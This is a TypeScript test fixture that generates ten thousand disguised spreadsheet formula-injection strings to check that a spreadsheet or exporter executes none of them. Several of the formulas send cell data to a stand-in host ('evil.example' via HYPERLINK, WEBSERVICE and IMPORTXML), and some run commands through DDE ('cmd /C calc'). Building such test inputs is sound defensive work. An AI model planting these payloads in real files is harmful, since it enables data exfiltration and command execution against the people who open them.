/** What stands before a formula to hide it: blanks of every kind, quotes, separators, other signs. */
const disguises = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\v',
  '\f',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u3000',
  '"',
  "'",
  ',',
  ';',
  '|',
  // A text of ours, then what some setting takes as the beginning of the next cell or row.
  'Smith;',
  'Smith; ',
  'Smith;"',
  'Smith,"',
  'Smith\t',
  'Smith|',
  'Smith\r\n',
  'Smith";"',
];
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '%', '!', '=-', '+='];
const formulas = [
  '1+1',
  'A1',
  'SUM(A1:Z99)',
  'HYPERLINK("http://evil.example/?"&A1,"Click")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'IMPORTXML("http://evil.example","//a")',
  "cmd|'/C calc'!A1",
  'DDE("cmd";"/C calc";"x")',
  '1,2',
  'A1;B1',
  '"quoted"&A1',
  'A1\n=B1',
  'A1\r\n=B1,=C1',
  '1234 5678',
  '{1;2}',
  '$A$1:$B$2',
  'RAND()',
  'true',
  'Ünïcödé(A1)',
  'x'.repeat(300),
];

/** Ten thousand texts, all different, of which a spreadsheet must run none. The same every time. */
export function hostileCells(): string[] {
  const cells: string[] = [];
  for (let round = 0; cells.length < 10_000; round += 1) {
    for (const disguise of disguises)
      for (const sign of signs)
        for (const formula of formulas) cells.push(`${disguise}${sign}${formula}${round || ''}`);
  }
  return [...new Set(cells)].slice(0, 10_000);
}
